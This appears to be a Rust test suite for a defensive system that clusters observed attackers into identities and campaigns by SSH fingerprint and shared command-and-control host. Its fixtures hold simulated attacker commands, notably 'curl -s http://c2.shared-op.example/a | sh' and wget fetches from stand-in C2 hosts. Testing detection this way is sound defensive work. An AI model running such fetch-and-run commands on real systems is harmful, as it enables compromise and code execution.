//! The clusterers over a real store, pass by pass.
#![allow(clippy::unwrap_used)]

#[path = "../../store/tests/contract/sample.rs"]
#[allow(dead_code, unreachable_pub, reason = "the contract of the store uses the rest")]
mod sample;

use std::time::Duration;

use bus::{Bus, Message, Pattern, Subscription};
use model::{Event, Outcome};
use runtime::{Cx, Worker as _};
use sample::{NOON, command, connect, event, login};
use serde_json::{Value, json};
use store::{Group, Level, Page, Store};
use tempfile::TempDir;
use tokio_util::sync::CancellationToken;
use uuid::Uuid;
use workers::clustering::Config;
use workers::{CampaignClusterer, Clusterer};

const HOPS: [&str; 5] = ["192.0.2.1", "198.51.100.2", "203.0.113.3", "2001:db8::4", "192.0.2.5"];

#[tokio::test]
async fn five_addresses_with_one_tool_are_one_identity_and_told_of_once() {
    let grid = Grid::new().await;
    let mut told = grid.listen("identity.>").await;
    grid.ingest(HOPS.iter().zip(1..).map(|(ip, n)| tool(n, ip, "hopper")))
        .await;
    let mut clusterer = grid.clusterer("one");
    grid.pass(&mut clusterer).await;
    let identities = grid.identities().await;
    assert_eq!(identities.len(), 1);
    let one = &identities[0];
    assert_eq!((one.members, one.canonical), (5, one.id));
    assert_eq!(one.rollup.hassh_hashes, ["hopper"]);
    assert_eq!((one.first_seen, one.last_seen), (Some(second(1)), Some(second(5))));
    assert!((one.confidence.unwrap() - 0.7).abs() < 1e-9);
    let formed = payload(told.next().await.unwrap());
    assert_eq!(
        (&formed["identity_uuid"], &formed["observation_count"]),
        (&json!(one.id), &json!(5))
    );
    assert_eq!(formed["reason_keys"], json!(["hassh:hopper"]));

    let before = grid.rows().await;
    for _ in 0..3 {
        grid.pass(&mut clusterer).await;
    }
    assert_eq!(grid.rows().await, before, "a pass without news writes nothing");
    assert!(silent(&mut told).await);
}

#[tokio::test]
async fn who_comes_later_is_linked_and_whom_he_joins_are_merged_into_the_older() {
    let grid = Grid::new().await;
    let mut clusterer = grid.clusterer("one");
    grid.ingest([tool(1, HOPS[0], "a")]).await;
    grid.pass(&mut clusterer).await;
    let older = grid.identities().await[0].id;
    grid.ingest([tool(2, HOPS[1], "b")]).await;
    grid.pass(&mut clusterer).await;
    let mut told = grid.listen("identity.>").await;
    grid.ingest([tool(3, HOPS[2], "a"), tool(4, HOPS[2], "b")]).await;
    grid.pass(&mut clusterer).await;
    let merged = told.next().await.unwrap();
    assert_eq!(merged.subject.as_str(), "identity.merged");
    assert_eq!(payload(merged)["winner_uuid"], json!(older));
    assert_eq!(
        told.next().await.unwrap().subject.as_str(),
        "identity.observation.linked"
    );
    let identities = grid.identities().await;
    assert_eq!(
        (identities.len(), identities[0].id, identities[0].members),
        (1, older, 3)
    );
    let rows = grid.store.identities().merged(older).await.unwrap();
    assert_eq!(rows.len(), 2);
    let loser = grid.store.identities().members(&rows[1..]).await.unwrap();
    assert_eq!(loser, [(HOPS[1].to_owned(), rows[1])], "an observation keeps its row");
}

#[tokio::test]
async fn what_an_operator_says_outlives_every_pass() {
    let grid = Grid::new().await;
    let mut clusterer = grid.clusterer("one");
    grid.ingest([tool(1, HOPS[0], "a"), tool(2, HOPS[1], "a"), tool(3, HOPS[2], "b")])
        .await;
    grid.pass(&mut clusterer).await;
    let together = async |a: usize, b: usize| grid.identity_of(HOPS[a]).await == grid.identity_of(HOPS[b]).await;
    assert!(together(0, 1).await && !together(0, 2).await);
    let pins = grid.store.pins();
    pins.set(Level::Identity, HOPS[0], HOPS[1], false, NOON).await.unwrap();
    pins.set(Level::Identity, HOPS[0], HOPS[2], true, NOON).await.unwrap();
    for _ in 0..3 {
        grid.pass(&mut clusterer).await;
    }
    assert!(!together(0, 1).await && together(0, 2).await);
    grid.ingest([tool(4, HOPS[3], "a"), tool(5, HOPS[4], "c")]).await;
    grid.pass(&mut grid.clusterer("one")).await;
    assert!(
        !together(0, 1).await && together(0, 2).await,
        "also for who begins anew"
    );
    pins.remove(Level::Identity, HOPS[0], HOPS[1]).await.unwrap();
    pins.remove(Level::Identity, HOPS[0], HOPS[2]).await.unwrap();
    let mut clusterer = grid.clusterer("one");
    for _ in 0..3 {
        grid.pass(&mut clusterer).await;
    }
    assert!(together(0, 1).await && !together(0, 2).await);
}

#[tokio::test]
async fn two_identities_with_one_endpoint_are_one_campaign() {
    let grid = Grid::new().await;
    let mut told = grid.listen("campaign.>").await;
    grid.ingest(operators()).await;
    grid.both().await;
    assert_eq!(grid.identities().await.len(), 3);
    let campaigns = grid.campaigns().await;
    assert_eq!(
        campaigns
            .iter()
            .map(|campaign| campaign.members)
            .collect::<Vec<_>>()
            .iter()
            .sum::<u64>(),
        3
    );
    let large: Vec<_> = campaigns.iter().filter(|campaign| campaign.members == 2).collect();
    assert_eq!((campaigns.len(), large.len()), (2, 1));
    assert_eq!(large[0].rollup.c2_endpoints, ["c2.shared-op.example"]);
    assert_eq!(told.next().await.unwrap().subject.as_str(), "campaign.formed");
    let of = async |ip: &str| {
        let identity = grid.identity_of(ip).await.unwrap();
        grid.store.identities().get(identity).await.unwrap().unwrap().campaign
    };
    assert!(of(HOPS[0]).await.is_some());
    assert_eq!(of(HOPS[0]).await, of(HOPS[1]).await);
    assert_ne!(of(HOPS[0]).await, of(HOPS[2]).await);

    let before = grid.rows().await;
    let mut clusterer = grid.campaign_clusterer("one");
    for _ in 0..3 {
        grid.campaign_pass(&mut clusterer).await;
    }
    assert_eq!(grid.rows().await, before);
}

#[tokio::test]
async fn when_identities_merge_their_campaigns_do() {
    let grid = Grid::new().await;
    grid.ingest([tool(1, HOPS[0], "a"), tool(2, HOPS[1], "b")]).await;
    let (mut one, mut two) = (grid.clusterer("one"), grid.campaign_clusterer("one"));
    for events in [Vec::new(), vec![tool(3, HOPS[2], "a"), tool(4, HOPS[2], "b")]] {
        grid.ingest(events).await;
        grid.pass(&mut one).await;
        grid.campaign_pass(&mut two).await;
    }
    let campaigns = grid.campaigns().await;
    assert_eq!((campaigns.len(), campaigns[0].members), (1, 1));
}

#[tokio::test]
async fn one_of_several_leads_and_another_goes_on_where_it_stopped() {
    let grid = Grid::new().await;
    let (mut first, mut second) = (grid.clusterer("one"), grid.clusterer("two"));
    grid.ingest([tool(1, HOPS[0], "a")]).await;
    grid.pass(&mut first).await;
    grid.ingest([tool(2, HOPS[1], "a")]).await;
    let before = grid.rows().await;
    grid.pass(&mut second).await;
    assert_eq!(grid.rows().await, before, "who does not lead writes nothing");
    let now = time::OffsetDateTime::now_utc();
    let term = time::Duration::seconds(30);
    let lease = grid
        .store
        .leases()
        .take("clusterer", "one", term, now)
        .await
        .unwrap()
        .unwrap();
    grid.store.leases().give_back(&lease).await.unwrap();
    grid.pass(&mut second).await;
    assert_eq!(grid.identities().await[0].members, 2);
    grid.ingest([tool(3, HOPS[2], "a")]).await;
    grid.pass(&mut first).await;
    assert_eq!(grid.identities().await[0].members, 2, "the first no longer leads");
}

#[tokio::test]
async fn what_a_crash_left_unsaid_is_said_first() {
    let grid = Grid::new().await;
    grid.ingest([tool(1, HOPS[0], "a")]).await;
    let away = Bus::in_process();
    away.close().await;
    let cx = Cx::alone(away, CancellationToken::new());
    grid.clusterer("one").work(&cx).await.unwrap();
    let mut told = grid.listen("identity.>").await;
    grid.pass(&mut grid.clusterer("one")).await;
    assert_eq!(told.next().await.unwrap().subject.as_str(), "identity.formed");
    grid.pass(&mut grid.clusterer("one")).await;
    assert!(silent(&mut told).await);
}

// === A clusterer that is killed ===

const KILLED: &str = "CLUSTERER_TO_KILL";

#[tokio::test]
async fn being_killed_at_any_point_changes_nothing_in_the_end() {
    let (killed, undisturbed) = (Grid::new().await, Grid::new().await);
    for round in 0..20_u64 {
        let events = crowd(round);
        killed.ingest(events.clone()).await;
        undisturbed.ingest(events).await;
        let mut child = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--ignored", "--exact", "clusters_until_it_is_killed"])
            .env(KILLED, &killed.url)
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap();
        // Where in its work this hits it is left to chance.
        tokio::time::sleep(Duration::from_millis(20 + round * 13)).await;
        child.kill().unwrap();
        child.wait().unwrap();
    }
    for grid in [&killed, &undisturbed] {
        let (mut one, mut two) = (grid.clusterer("child"), grid.campaign_clusterer("child"));
        for _ in 0..4 {
            grid.pass(&mut one).await;
            grid.campaign_pass(&mut two).await;
        }
    }
    assert_eq!(killed.partition().await, undisturbed.partition().await);
    assert!(killed.store.outbox().waiting("clusterer", 1).await.unwrap().is_empty());
    let (identities, campaigns) = (killed.identities().await, killed.campaigns().await);
    assert_eq!(identities.iter().map(|identity| identity.members).sum::<u64>(), 100);
    assert_eq!(
        campaigns.iter().map(|campaign| campaign.members).sum::<u64>(),
        identities.len() as u64
    );
    let before = killed.rows().await;
    killed.pass(&mut killed.clusterer("child")).await;
    killed.campaign_pass(&mut killed.campaign_clusterer("child")).await;
    assert_eq!(killed.rows().await, before);
}

#[tokio::test]
#[ignore = "the test above runs it, to kill it"]
async fn clusters_until_it_is_killed() {
    let store =
        Store::open(&std::env::var(KILLED).expect("only being_killed_at_any_point_... starts this, and kills it"))
            .await
            .unwrap();
    let cx = Cx::alone(Bus::in_process(), CancellationToken::new());
    let mut one = Clusterer::new(store.clone(), config("child"));
    let mut two = CampaignClusterer::new(store, config("child"));
    loop {
        one.work(&cx).await.unwrap();
        two.work(&cx).await.unwrap();
    }
}

/// Five addresses: four of tools that come again in later rounds, one that brings tools together.
fn crowd(round: u64) -> Vec<Event> {
    let base = 1 + round * 20;
    let ip = |n: u64| format!("192.0.2.{}", round * 5 + n);
    let tools = [round % 7, round % 5 + 10, round % 3 + 20, round + 30];
    let mut events: Vec<Event> = (0_u64..)
        .zip(tools)
        .map(|(n, of)| tool(base + n, &ip(n), &of.to_string()))
        .collect();
    events.push(tool(base + 5, &ip(4), &(round + 30).to_string()));
    events.push(tool(base + 6, &ip(4), &(round % 7).to_string()));
    events.push(command(
        base + 7,
        &ip(0),
        "web-01",
        &format!("curl http://c{}.example/x", round % 4),
    ));
    events
}

// === A grid of rows ===

struct Grid {
    store: Store,
    url: String,
    bus: Bus,
    _dir: TempDir,
}

impl Grid {
    async fn new() -> Self {
        let dir = TempDir::new().unwrap();
        let url = format!("sqlite://{}", dir.path().join("grid.db").display());
        Self {
            store: Store::open(&url).await.unwrap(),
            url,
            bus: Bus::in_process(),
            _dir: dir,
        }
    }

    async fn ingest(&self, events: impl IntoIterator<Item = Event>) {
        self.store
            .ingest(&events.into_iter().collect::<Vec<_>>())
            .await
            .unwrap();
    }

    fn clusterer(&self, holder: &str) -> Clusterer {
        Clusterer::new(self.store.clone(), config(holder))
    }

    fn campaign_clusterer(&self, holder: &str) -> CampaignClusterer {
        CampaignClusterer::new(self.store.clone(), config(holder))
    }

    async fn pass(&self, clusterer: &mut Clusterer) {
        clusterer.work(&self.cx()).await.unwrap();
    }

    async fn campaign_pass(&self, clusterer: &mut CampaignClusterer) {
        clusterer.work(&self.cx()).await.unwrap();
    }

    async fn both(&self) {
        self.pass(&mut self.clusterer("one")).await;
        self.campaign_pass(&mut self.campaign_clusterer("one")).await;
    }

    fn cx(&self) -> Cx {
        Cx::alone(self.bus.clone(), CancellationToken::new())
    }

    async fn listen(&self, pattern: &'static str) -> Subscription {
        self.bus.subscribe(&Pattern::parse(pattern).unwrap()).await.unwrap()
    }

    async fn identities(&self) -> Vec<Group> {
        self.store.identities().list(&Page::newest(1_000)).await.unwrap().rows
    }

    async fn campaigns(&self) -> Vec<Group> {
        self.store.campaigns().list(&Page::newest(1_000)).await.unwrap().rows
    }

    /// Every row of both levels, merged or not.
    async fn rows(&self) -> (Vec<Group>, Vec<Group>) {
        let of = async |level| self.store.groups(level).since(-1, None, 10_000).await.unwrap();
        (of(Level::Identity).await, of(Level::Campaign).await)
    }

    async fn identity_of(&self, ip: &str) -> Option<Uuid> {
        let traces = self.store.traces().of(&[ip.to_owned()]).await.unwrap();
        let identity = traces[0].identity?;
        Some(self.store.identities().canonical(identity).await.unwrap()?.id)
    }

    /// Addresses by the identity, and by the campaign, that counts for them; each named by its smallest.
    async fn partition(&self) -> Vec<(String, String, String)> {
        let mut rows = Vec::new();
        for ip in self.store.traces().addresses(None, 1_000).await.unwrap() {
            let identity = self.identity_of(&ip).await.unwrap();
            let campaign = self
                .store
                .identities()
                .get(identity)
                .await
                .unwrap()
                .unwrap()
                .campaign
                .unwrap();
            let campaign = self.store.campaigns().get(campaign).await.unwrap().unwrap().canonical;
            rows.push((ip, identity, campaign));
        }
        let first = |is: &dyn Fn(&(String, Uuid, Uuid)) -> bool| rows.iter().find(|row| is(row)).unwrap().0.clone();
        let named = rows.iter().map(|(ip, identity, campaign)| {
            (
                ip.clone(),
                first(&|row| row.1 == *identity),
                first(&|row| row.2 == *campaign),
            )
        });
        named.collect()
    }
}

fn config(holder: &str) -> Config {
    Config {
        holder: holder.into(),
        ..Config::new("local")
    }
}

/// An address that speaks SSH as this tool does.
fn tool(n: u64, ip: &str, hassh: &str) -> Event {
    let fields = serde_json::from_value(json!({"hassh": hassh})).unwrap();
    event(n, ip, "web-01", "ssh_client_kex", fields)
}

/// Two with tools of their own who call the same place, and one who calls none.
fn operators() -> Vec<Event> {
    vec![
        tool(1, HOPS[0], "broker"),
        command(2, HOPS[0], "web-01", "curl -s http://c2.shared-op.example/a | sh"),
        tool(3, HOPS[1], "postex"),
        login(4, HOPS[1], "db-01", "root", "right", Outcome::Success),
        command(5, HOPS[1], "db-01", "wget http://c2.shared-op.example/b"),
        connect(6, HOPS[2], "db-01"),
    ]
}

fn second(n: i64) -> time::OffsetDateTime {
    NOON + time::Duration::seconds(n)
}

fn payload(message: Message) -> Value {
    message.envelope().unwrap().payload().unwrap()
}

async fn silent(told: &mut Subscription) -> bool {
    tokio::time::timeout(Duration::from_millis(50), told.next())
        .await
        .is_err()
}
